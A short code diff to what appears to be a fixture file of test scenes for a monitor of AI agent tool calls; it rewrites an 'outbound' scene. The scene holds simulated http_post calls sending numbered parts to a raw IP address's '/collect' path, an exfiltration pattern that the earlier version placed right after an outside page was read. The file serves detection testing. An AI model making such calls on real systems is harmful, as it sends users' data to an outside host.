@@ -56,13 +56,10 @@ export const SCENES: Readonly<Record<string, Scene>> = {
     lines: each(6, MINUTE_MS, (at, i) => line(at + 13 * HOUR_MS, search(`acme at night ${i}`))),
   },
   outbound: {
-    about: "Four calls to a raw address, right after an outside page was read.",
-    lines: [
-      line(LIVE, { action: "read_page", target: "https://shop.example.com/p/new", run: "run-x" }),
-      ...each(4, 10 * SECOND_MS, (at, i) =>
-        line(at + 5 * SECOND_MS, { action: "http_post", target: `http://203.0.113.7/collect?part=${i}`, run: "run-x" }),
-      ),
-    ],
+    about: "Four calls to a raw address, by a tool that it never used.",
+    lines: each(4, 10 * SECOND_MS, (at, i) =>
+      line(at, { action: "http_post", target: `http://203.0.113.7/collect?part=${i}`, run: "run-x" }),
+    ),
   },
   policy: {
     about: "A tool that the list denies.",
